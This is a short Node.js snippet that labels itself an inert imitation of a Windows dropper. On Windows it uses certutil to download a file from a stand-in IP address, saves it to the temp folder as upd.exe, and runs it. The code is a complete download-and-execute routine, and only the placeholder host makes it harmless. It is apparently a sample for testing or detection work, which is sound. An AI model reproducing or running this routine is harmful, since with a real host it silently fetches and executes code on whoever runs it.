// Inert imitation of a Windows dropper: certutil downloads a file, then it is started.
const { exec } = require('child_process');
const os = require('os');
const path = require('path');
const target = path.join(os.tmpdir(), 'upd.exe');
if (process.platform === 'win32') {
  exec(`certutil -urlcache -split -f http://198.51.100.23/u.bin ${target}`, () => exec(`start "" ${target}`));
}
